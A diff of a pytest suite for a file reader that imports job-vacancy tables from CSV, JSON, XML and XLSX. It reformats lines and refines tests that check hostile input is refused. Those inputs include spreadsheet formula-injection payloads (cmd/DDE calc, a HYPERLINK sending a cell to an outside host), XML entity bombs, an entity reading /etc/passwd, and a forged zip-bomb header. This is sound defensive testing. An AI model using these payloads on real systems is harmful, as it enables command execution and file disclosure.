@@ -6,7 +6,6 @@ import csv
 import io
 import json
 import zipfile
-import zlib
 from collections.abc import Sequence
 from pathlib import Path
 from typing import Any
@@ -51,7 +50,9 @@ def titles(result: ReadResult) -> list[str]:
     return list(result.table.column("title").to_pylist())
 
 
-def write_csv(path: Path, rows: Sequence[Sequence[str]], *, encoding: str = "utf-8", header: Sequence[str] = HEADER) -> Path:
+def write_csv(
+    path: Path, rows: Sequence[Sequence[str]], *, encoding: str = "utf-8", header: Sequence[str] = HEADER
+) -> Path:
     with path.open("w", encoding=encoding, newline="") as handle:
         csv.writer(handle).writerows([header, *rows])
     return path
@@ -62,6 +63,16 @@ def refused(path: Path, kind: Kind = Kind.VACANCY, *, limits: Limits | None = No
         read(path, kind, limits=limits)
     assert caught.value.hint, "an error says what to do next"
     return caught.value.message
+
+
+def read_or_refused(path: Path, kind: Kind = Kind.VACANCY) -> ReadResult | None:
+    """Read, or be told what to do next; nothing else may happen."""
+    try:
+        return read(path, kind)
+    except InputError as error:
+        if not error.hint:
+            pytest.fail(f"no hint: {error.message}")
+        return None
 
 
 # -- what is no table --------------------------------------------------------------------------------------
@@ -107,7 +118,9 @@ def test_an_archive_of_other_things_is_no_workbook(tmp_path: Path) -> None:
 @pytest.mark.parametrize("mark", ["WordDocument", "EncryptedPackage"])
 def test_an_old_or_locked_word_document_is_no_workbook(tmp_path: Path, mark: str) -> None:
     path = tmp_path / "cv.doc"
-    path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1000) + mark.encode("utf-16-le") + bytes(1000))
+    path.write_bytes(
+        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1000) + mark.encode("utf-16-le") + bytes(1000)
+    )
     assert ("old Word document" if mark == "WordDocument" else "password") in refused(path, Kind.JOBSEEKER)
 
 
@@ -123,7 +136,10 @@ def test_a_table_without_a_title_column_says_which_columns_it_has(tmp_path: Path
     "encoding", ["utf-8", "utf-8-sig", "cp1252", "utf-16", "utf-16-le", "utf-16-be", "utf-32"]
 )
 def test_a_table_in_any_usual_encoding_gives_the_same_rows(tmp_path: Path, encoding: str) -> None:
-    rows = [*GOOD, ["Barista café – señor", "PT Kopi Énak", "Kota Bandung", "", "Menyeduh kopi “susu” à la carte"]]
+    rows = [
+        *GOOD,
+        ["Barista café – señor", "PT Kopi Énak", "Kota Bandung", "", "Menyeduh kopi “susu” à la carte"],
+    ]
     result = read(write_csv(tmp_path / "x.csv", rows, encoding=encoding))
     assert titles(result) == ["Kasir", "Sopir", "Penjahit", "Barista café – señor"]
 
@@ -209,7 +225,9 @@ def test_a_quoted_cell_may_run_over_lines(tmp_path: Path) -> None:
 def test_ragged_rows_are_filled_or_rejected(tmp_path: Path) -> None:
     path = tmp_path / "x.csv"
     path.write_text(
-        "Judul,Perusahaan,Lokasi\nKasir,PT A,Bandung\nSopir\nMontir,PT B,Solo,lebih\nKoki,PT C,Solo,,\n\n,,\n", encoding="utf-8"
+        "Judul,Perusahaan,Lokasi\nKasir,PT A,Bandung\nSopir\nMontir,PT B,Solo,lebih\nKoki,PT C,Solo,,\n\n"
+        ",,\n",
+        encoding="utf-8",
     )
     result = read(path)
     assert titles(result) == ["Kasir", "Sopir", "Koki"]
@@ -219,7 +237,10 @@ def test_ragged_rows_are_filled_or_rejected(tmp_path: Path) -> None:
 
 def test_nul_bytes_and_control_characters_are_taken_out(tmp_path: Path) -> None:
     path = tmp_path / "x.csv"
-    path.write_bytes(b"Judul,Perusahaan,Deskripsi\nKa\x00sir,PT \x07A,Mela\x1byani\n" + b"Sopir,PT B,Mengantar barang\n" * 1)
+    path.write_bytes(
+        b"Judul,Perusahaan,Deskripsi\nKa\x00sir,PT \x07A,Mela\x1byani\n"
+        + b"Sopir,PT B,Mengantar barang\n" * 1
+    )
     result = read(path)
     assert titles(result) == ["Kasir", "Sopir"]
     assert "\x00" not in repr(result.table.to_pylist())
@@ -227,9 +248,22 @@ def test_nul_bytes_and_control_characters_are_taken_out(tmp_path: Path) -> None:
 
 @pytest.mark.parametrize(
     "formula",
-    ['=HYPERLINK("http://x.example?"&A1,"klik")', "=cmd|' /C calc'!A0", "@SUM(1+1)", "+cmd|'/C calc'!A0", "-cmd|'/C calc'!A0",
-     "=1+1", "=A1", "=-2+3+cmd|' /C calc'!D2", "\t=SUM(A1:A2)", "=DDE(\"cmd\";\"/C calc\";\"x\")", "＝SUM(A1)"],
-)  # fmt: skip
+    [
+        '=HYPERLINK("http://x.example?"&A1,"klik")',
+        "=cmd|' /C calc'!A0",
+        "@SUM(1+1)",
+        "+cmd|'/C calc'!A0",
+        "-cmd|'/C calc'!A0",
+        "=1+1",
+        "=A1",
+        "=-2+3+cmd|' /C calc'!D2",
+        "\t=SUM(A1:A2)",
+        '=DDE("cmd";"/C calc";"x")',
+        "\uff1dSUM(A1)",
+        "<b></b>=HYPERLINK(A1)",
+        "\u200b=HYPERLINK(A1)",
+    ],
+)
 def test_a_formula_is_a_rejection_with_its_column(tmp_path: Path, formula: str) -> None:
     result = read(write_csv(tmp_path / "x.csv", [GOOD[0], [formula, *GOOD[1][1:]], GOOD[2]]))
     assert titles(result) == ["Kasir", "Penjahit"]
@@ -238,7 +272,10 @@ def test_a_formula_is_a_rejection_with_its_column(tmp_path: Path, formula: str) 
     assert "formula" in no.reason
 
 
-@pytest.mark.parametrize("text", ["+62 Bandung Staff", "- Kasir (shift malam)", "@ Kasir", "-", "= Kasir =", "+ Kasir", "C++ (Developer)"])
+@pytest.mark.parametrize(
+    "text",
+    ["+62 Bandung Staff", "- Kasir (shift malam)", "@ Kasir", "-", "= Kasir =", "+ Kasir", "C++ (Developer)"],
+)
 def test_what_only_begins_like_a_formula_is_kept(tmp_path: Path, text: str) -> None:
     result = read(write_csv(tmp_path / "x.csv", [GOOD[0], [GOOD[1][0], *GOOD[1][1:4], text], GOOD[2]]))
     assert titles(result) == ["Kasir", "Sopir", "Penjahit"]
@@ -261,7 +298,9 @@ def test_duplicate_and_blank_headers_get_names_of_their_own(tmp_path: Path) -> N
 
 
 def test_a_header_that_looks_like_a_made_up_name_does_not_swallow_a_column(tmp_path: Path) -> None:
-    result = read(write_csv(tmp_path / "x.csv", [["a", "b", "Kasir", "c"]], header=["x", "x", "Judul", "x.2"]))
+    result = read(
+        write_csv(tmp_path / "x.csv", [["a", "b", "Kasir", "c"]], header=["x", "x", "Judul", "x.2"])
+    )
     assert titles(result) == ["Kasir"]
     assert len(result.account.unused) == 3
 
@@ -269,7 +308,9 @@ def test_a_header_that_looks_like_a_made_up_name_does_not_swallow_a_column(tmp_p
 def test_three_thousand_columns_are_refused(tmp_path: Path) -> None:
     header = ["Judul", *(f"k{i}" for i in range(3000))]
     assert "3001 columns" in refused(write_csv(tmp_path / "x.csv", [["Kasir"] * 3001], header=header))
-    (tmp_path / "x.jsonl").write_text(json.dumps(dict.fromkeys(header, "x")) + "\n" + json.dumps({"Judul": "Kasir"}), encoding="utf-8")
+    (tmp_path / "x.jsonl").write_text(
+        json.dumps(dict.fromkeys(header, "x")) + "\n" + json.dumps({"Judul": "Kasir"}), encoding="utf-8"
+    )
     result = read(tmp_path / "x.jsonl")
     assert titles(result) == ["Kasir"]
     assert "3,001" in result.rejected[0].reason
@@ -278,7 +319,9 @@ def test_three_thousand_columns_are_refused(tmp_path: Path) -> None:
 # -- JSON --------------------------------------------------------------------------------------------------
 
 
-@pytest.mark.parametrize("text", ["[" * 100_000, "[" * 100_000 + "]" * 100_000, '{"a":' * 100_000 + "1" + "}" * 100_000])
+@pytest.mark.parametrize(
+    "text", ["[" * 100_000, "[" * 100_000 + "]" * 100_000, '{"a":' * 100_000 + "1" + "}" * 100_000]
+)
 def test_deep_json_is_no_crash(tmp_path: Path, text: str) -> None:
     path = tmp_path / "x.json"
     path.write_text(text, encoding="utf-8")
@@ -287,7 +330,9 @@ def test_deep_json_is_no_crash(tmp_path: Path, text: str) -> None:
 
 def test_a_deep_line_of_jsonl_is_one_rejection(tmp_path: Path) -> None:
     good = [json.dumps(dict(zip(HEADER, row, strict=True))) for row in GOOD]
-    (tmp_path / "x.jsonl").write_text("\n".join([good[0], '{"Judul":' + "[" * 100_000, good[1]]), encoding="utf-8")
+    (tmp_path / "x.jsonl").write_text(
+        "\n".join([good[0], '{"Judul":' + "[" * 100_000, good[1]]), encoding="utf-8"
+    )
     result = read(tmp_path / "x.jsonl")
     assert titles(result) == ["Kasir", "Sopir"]
     assert [r.row for r in result.rejected] == [2]
@@ -308,28 +353,40 @@ def test_a_value_nested_as_deep_as_json_allows_is_kept_or_rejected(tmp_path: Pat
 def test_nan_infinity_and_huge_numbers_are_no_values(tmp_path: Path) -> None:
     path = tmp_path / "x.jsonl"
     lines = [
-        '{"title": "Kasir", "min salary": NaN, "max salary": Infinity, "kuota": NaN, "company": "A", "usia min": -Infinity}',
+        '{"title": "Kasir", "min salary": NaN, "max salary": Infinity, "kuota": NaN, "company": "A", '
+        '"usia min": -Infinity}',
         '{"title": NaN, "company": "B"}',
         '{"title": "Sopir", "min salary": 1e400, "kuota": 1' + "0" * 300 + ', "company": "C"}',
         '{"title": "Koki", "kuota": 1' + "0" * 5000 + "}",
-        '{"title": "Penjahit", "min salary": true, "kuota": {"a": 1}, "company": ["D"], "pengalaman minimum": Infinity}',
+        '{"title": "Penjahit", "min salary": true, "kuota": {"a": 1}, "company": ["D"], "pengalaman '
+        'minimum": Infinity}',
     ]
     path.write_text("\n".join(lines), encoding="utf-8")
     result = read(path)
     assert titles(result) == ["Kasir", "Sopir", "Penjahit"]
     assert [r.row for r in result.rejected] == [2, 4]
     for row in result.table.to_pylist():
-        assert (row["base_salary_min"], row["base_salary_max"], row["total_job_openings"]) == (None, None, None)
+        assert (row["base_salary_min"], row["base_salary_max"], row["total_job_openings"]) == (
+            None,
+            None,
+            None,
+        )
 
 
 def test_half_characters_do_not_reach_the_table(tmp_path: Path) -> None:
     path = tmp_path / "x.jsonl"
-    path.write_text('{"title": "Ka\\ud800sir", "description": "\\udfff teks", "skills": ["\\ud83d"], "company": "\\ud800"}\n', encoding="utf-8")
+    path.write_text(
+        '{"title": "Ka\\ud800sir", "description": "\\udfff teks", "skills": ["\\ud83d"], "company": '
+        '"\\ud800"}\n',
+        encoding="utf-8",
+    )
     (row,) = read(path).table.to_pylist()
     assert row["title"].encode() == b"Kasir"
 
 
-@pytest.mark.parametrize("text", ['{"a": 1', "[1, 2, 3]", '["Kasir"]', "[]", "{}", '[{"Judul": "Kasir"}', "{'Judul': 'Kasir'}"])
+@pytest.mark.parametrize(
+    "text", ['{"a": 1', "[1, 2, 3]", '["Kasir"]', "[]", "{}", '[{"Judul": "Kasir"}', "{'Judul': 'Kasir'}"]
+)
 def test_json_that_is_broken_or_no_list_of_objects_is_told(tmp_path: Path, text: str) -> None:
     path = tmp_path / "x.json"
     path.write_text(text, encoding="utf-8")
@@ -343,7 +400,9 @@ def test_json_that_is_broken_or_no_list_of_objects_is_told(tmp_path: Path, text:
 
 def test_rows_of_other_types_between_objects_are_rejected_with_their_place(tmp_path: Path) -> None:
     path = tmp_path / "x.json"
-    path.write_text(json.dumps([{"Judul": "Kasir"}, 5, None, "x", ["y"], {"Judul": "Sopir"}]), encoding="utf-8")
+    path.write_text(
+        json.dumps([{"Judul": "Kasir"}, 5, None, "x", ["y"], {"Judul": "Sopir"}]), encoding="utf-8"
+    )
     result = read(path)
     assert titles(result) == ["Kasir", "Sopir"]
     assert [r.row for r in result.rejected] == [2, 3, 4, 5]
@@ -357,24 +416,34 @@ def test_a_large_json_document_is_refused_before_it_is_read(tmp_path: Path) -> N
 
 # -- XML ---------------------------------------------------------------------------------------------------
 
-LAUGHS = "".join(f'<!ENTITY a{i} "{"&a" + str(i - 1) + ";" if i else "ha"}{"&a" + str(i - 1) + ";" if i else "ha"}">' for i in range(30))
+LAUGHS = "".join(
+    f'<!ENTITY a{i} "{"&a" + str(i - 1) + ";" if i else "ha"}{"&a" + str(i - 1) + ";" if i else "ha"}">'
+    for i in range(30)
+)
 
 
 @pytest.mark.parametrize(
     "doctype",
-    [LAUGHS, '<!ENTITY a29 SYSTEM "file:///etc/passwd">', '<!ENTITY % p SYSTEM "http://127.0.0.1:9/x.dtd"> %p;',
-     '<!ENTITY a29 "' + "x" * 100_000 + '">'],
-)  # fmt: skip
+    [
+        LAUGHS,
+        '<!ENTITY a29 SYSTEM "file:///etc/passwd">',
+        '<!ENTITY % p SYSTEM "http://127.0.0.1:9/x.dtd"> %p;',
+        '<!ENTITY a29 "' + "x" * 100_000 + '">',
+    ],
+)
 @pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "utf-16-be"])
 def test_entities_are_refused_in_every_encoding(tmp_path: Path, doctype: str, encoding: str) -> None:
     path = tmp_path / "feed.xml"
-    xml = f'<?xml version="1.0" encoding="{encoding}"?><!DOCTYPE rss [{doctype}]><rss><channel><item><title>&a29;</title></item></channel></rss>'
+    item = "<item><title>&a29;</title></item>"
+    xml = f'<?xml version="1.0" encoding="{encoding}"?><!DOCTYPE rss [{doctype}]><rss><channel>{item}</channel></rss>'
     data = xml.encode(encoding)
     path.write_bytes(b"\xfe\xff" + data if encoding == "utf-16-be" else data)
     assert "entit" in refused(path).lower()
 
 
-@pytest.mark.parametrize("xml", ["<rss><channel><item>", "<rss", "<a/>", "<" * 5000, "<a>" * 5000, "<?xml version='1.0'?>"])
+@pytest.mark.parametrize(
+    "xml", ["<rss><channel><item>", "<rss", "<a/>", "<" * 5000, "<a>" * 5000, "<?xml version='1.0'?>"]
+)
 def test_broken_or_unknown_xml_is_told(tmp_path: Path, xml: str) -> None:
     path = tmp_path / "feed.xml"
     path.write_text(xml, encoding="utf-8")
@@ -384,7 +453,8 @@ def test_broken_or_unknown_xml_is_told(tmp_path: Path, xml: str) -> None:
 def test_an_external_doctype_is_not_fetched(tmp_path: Path) -> None:
     path = tmp_path / "feed.xml"
     path.write_text(
-        '<!DOCTYPE rss SYSTEM "http://127.0.0.1:9/x.dtd"><rss><channel><item><title>Kasir</title><description>Teks</description>'
+        '<!DOCTYPE rss SYSTEM "http://127.0.0.1:9/x.dtd"><rss><channel><item><title>Kasir</title>'
+        '<description>Teks</description>'
         "</item></channel></rss>",
         encoding="utf-8",
     )
@@ -412,14 +482,14 @@ def write_xlsx(path: Path, rows: Sequence[Sequence[Any]], *, before: int = 0) ->
 
 def test_a_workbook_bomb_is_not_unpacked(tmp_path: Path) -> None:
     path = write_xlsx(tmp_path / "bom.xlsx", [HEADER, *GOOD])
-    # 600 MB of zeros as one deflate stream, written without having them: the same compressed block again and again
-    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
-    block = packer.compress(bytes(1_000_000)) + packer.flush(zlib.Z_FULL_FLUSH)
+    # a part that says it unpacks to 600 MB; the directory of the archive is believed before anything is unpacked
     with zipfile.ZipFile(path, "a") as archive:
         archive.writestr(zipfile.ZipInfo("xl/worksheets/sheet2.xml"), b"")
     data = bytearray(path.read_bytes())
     entry = data.rindex(b"PK\x01\x02")
-    data[entry + 20 : entry + 28] = (len(block) * 600).to_bytes(4, "little") + (600_000_000).to_bytes(4, "little")
+    data[entry + 20 : entry + 28] = (600_000).to_bytes(4, "little") + (600_000_000).to_bytes(
+        4, "little"
+    )
     path.write_bytes(data)
     assert "unpack to over" in refused(path)
     small = write_xlsx(tmp_path / "kecil.xlsx", [HEADER, *GOOD])
@@ -435,9 +505,13 @@ def test_a_workbook_cut_short_is_told(tmp_path: Path, keep: int) -> None:
     refused(path)
 
 
-@pytest.mark.parametrize("member", ["xl/workbook.xml", "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "[Content_Types].xml"])
+@pytest.mark.parametrize(
+    "member", ["xl/workbook.xml", "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "[Content_Types].xml"]
+)
 @pytest.mark.parametrize("content", [b"", b"<", b"\x00" * 50, b"<?xml version='1.0'?><x/>"])
-def test_a_workbook_with_a_damaged_part_is_an_error_or_read(tmp_path: Path, member: str, content: bytes) -> None:
+def test_a_workbook_with_a_damaged_part_is_an_error_or_read(
+    tmp_path: Path, member: str, content: bytes
+) -> None:
     whole = write_xlsx(tmp_path / "x.xlsx", [HEADER, *GOOD])
     path = tmp_path / "rusak.xlsx"
     with zipfile.ZipFile(whole) as source, zipfile.ZipFile(path, "w") as target:
@@ -463,7 +537,9 @@ def test_bytes_changed_anywhere_in_a_workbook_are_no_crash(tmp_path: Path) -> No
 
 
 def test_a_table_that_begins_lower_in_the_sheet_keeps_its_row_numbers(tmp_path: Path) -> None:
-    result = read(write_xlsx(tmp_path / "x.xlsx", [HEADER, GOOD[0], ["", "PT X", "Solo", "", ""], GOOD[1]], before=3))
+    result = read(
+        write_xlsx(tmp_path / "x.xlsx", [HEADER, GOOD[0], ["", "PT X", "Solo", "", ""], GOOD[1]], before=3)
+    )
     assert titles(result) == ["Kasir", "Sopir"]
     assert result.table.column("source_row").to_pylist() == [5, 7]
     assert [(r.row, r.column) for r in result.rejected] == [(6, "Judul")]
@@ -472,7 +548,12 @@ def test_a_table_that_begins_lower_in_the_sheet_keeps_its_row_numbers(tmp_path: 
 def test_values_of_a_workbook_of_every_type_are_no_crash(tmp_path: Path) -> None:
     import datetime as dt
 
-    rows = [HEADER, [dt.date(2024, 1, 2), 5, True, 3.5e6, dt.datetime(2024, 1, 2, 3, 4)], [None, None, None, None, None], GOOD[0]]
+    rows = [
+        HEADER,
+        [dt.date(2024, 1, 2), 5, True, 3.5e6, dt.datetime(2024, 1, 2, 3, 4)],
+        [None, None, None, None, None],
+        GOOD[0],
+    ]
     result = read(write_xlsx(tmp_path / "x.xlsx", rows))
     assert result.account.rows_in == 2
 
@@ -514,12 +595,38 @@ def test_parquet_values_of_odd_types_are_no_crash(tmp_path: Path) -> None:
 
 # any unicode but what no file format can carry: half characters; XML cannot carry control characters either
 TEXT = st.text(st.characters(blacklist_categories=("Cs",)), max_size=12)
-LINE = st.text(st.characters(blacklist_categories=("Cs", "Cc"), blacklist_characters="\ufffe\uffff\u2028\u2029\x85"), max_size=12)
-WORDS = st.sampled_from(["", "Kasir", "Sopir", "PT A", "Bandung", "Rp 3 juta", "2024-05-01", "=1+1", "-", "N/A", '"', "'", ";", "\t"])
+LINE = st.text(
+    st.characters(blacklist_categories=("Cs", "Cc"), blacklist_characters="\ufffe\uffff\u2028\u2029\x85"),
+    max_size=12,
+)
+WORDS = st.sampled_from(
+    [
+        "",
+        "Kasir",
+        "Sopir",
+        "PT A",
+        "Bandung",
+        "Rp 3 juta",
+        "2024-05-01",
+        "=1+1",
+        "-",
+        "N/A",
+        '"',
+        "'",
+        ";",
+        "\t",
+    ]
+)
 
 
 def tables(cell: st.SearchStrategy[str]) -> st.SearchStrategy[tuple[list[str], list[list[str]]]]:
-    names = st.lists(st.sampled_from(["Perusahaan", "Lokasi", "Gaji", "Deskripsi", "Keahlian", "Kuota", "Tanggal", "lain"]), min_size=1, max_size=4)
+    names = st.lists(
+        st.sampled_from(
+            ["Perusahaan", "Lokasi", "Gaji", "Deskripsi", "Keahlian", "Kuota", "Tanggal", "lain"]
+        ),
+        min_size=1,
+        max_size=4,
+    )
     return names.flatmap(
         lambda other: st.tuples(
             st.just(["Judul", *other]),
@@ -532,12 +639,18 @@ def blank(row: Sequence[str]) -> bool:
     return not any(str(cell).replace("\x00", "").strip() for cell in row)
 
 
-PROPERTY = settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
+PROPERTY = settings(
+    max_examples=60,
+    deadline=None,
+    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
+)
 
 
 @PROPERTY
 @given(table=tables(TEXT))
-def test_every_row_of_a_csv_file_is_accounted_for(tmp_path: Path, table: tuple[list[str], list[list[str]]]) -> None:
+def test_every_row_of_a_csv_file_is_accounted_for(
+    tmp_path: Path, table: tuple[list[str], list[list[str]]]
+) -> None:
     header, rows = table
     path = tmp_path / "x.csv"
     out = io.StringIO(newline="")
@@ -551,11 +664,17 @@ def test_every_row_of_a_csv_file_is_accounted_for(tmp_path: Path, table: tuple[l
 def test_any_text_under_a_header_is_a_table_or_rejections(tmp_path: Path, lines: list[str]) -> None:
     path = tmp_path / "x.csv"
     path.write_bytes("\n".join(["Judul,Perusahaan", "Kasir,PT A", *lines]).encode())
-    read(path)
+    try:
+        read(path)
+    except InputError as error:
+        assert "binary" in error.message, "only a file of control characters is no table"
 
 
 @PROPERTY
-@given(table=tables(TEXT), junk=st.lists(st.sampled_from(["5", "null", "[1]", "{", "nonsense", '"x"']), max_size=3))
+@given(
+    table=tables(TEXT),
+    junk=st.lists(st.sampled_from(["5", "null", "[1]", "{", "nonsense", '"x"']), max_size=3),
+)
 def test_every_line_of_a_jsonl_file_is_accounted_for(
     tmp_path: Path, table: tuple[list[str], list[list[str]]], junk: list[str]
 ) -> None:
@@ -568,7 +687,9 @@ def test_every_line_of_a_jsonl_file_is_accounted_for(
 
 @PROPERTY
 @given(table=tables(LINE))
-def test_every_row_of_a_workbook_is_accounted_for(tmp_path: Path, table: tuple[list[str], list[list[str]]]) -> None:
+def test_every_row_of_a_workbook_is_accounted_for(
+    tmp_path: Path, table: tuple[list[str], list[list[str]]]
+) -> None:
     header, rows = table
     path = write_xlsx(tmp_path / "x.xlsx", [header, ["Kasir"] * len(header), *rows])
     assert read(path).account.rows_in == 1 + sum(not blank(row) for row in rows)
@@ -578,14 +699,22 @@ def test_every_row_of_a_workbook_is_accounted_for(tmp_path: Path, table: tuple[l
 @given(
     st.recursive(
         st.none() | st.booleans() | st.integers() | st.floats() | TEXT,
-        lambda inner: st.lists(inner, max_size=3) | st.dictionaries(TEXT | st.sampled_from(["title", "name", "skills", "@type"]), inner, max_size=4),
+        lambda inner: (
+            st.lists(inner, max_size=3)
+            | st.dictionaries(TEXT | st.sampled_from(["title", "name", "skills", "@type"]), inner, max_size=4)
+        ),
         max_leaves=12,
     ),
     st.sampled_from(list(Kind)),
 )
 def test_any_json_value_is_rows_or_an_error_with_a_hint(tmp_path: Path, value: object, kind: Kind) -> None:
     path = tmp_path / "x.json"
-    path.write_text(json.dumps([{"title": "Kasir", "name": "Las", "skills": value, "description": value, "Gaji": value}, value]), encoding="utf-8")
+    path.write_text(
+        json.dumps(
+            [{"title": "Kasir", "name": "Las", "skills": value, "description": value, "Gaji": value}, value]
+        ),
+        encoding="utf-8",
+    )
     try:
         read(path, kind)
     except InputError as error:
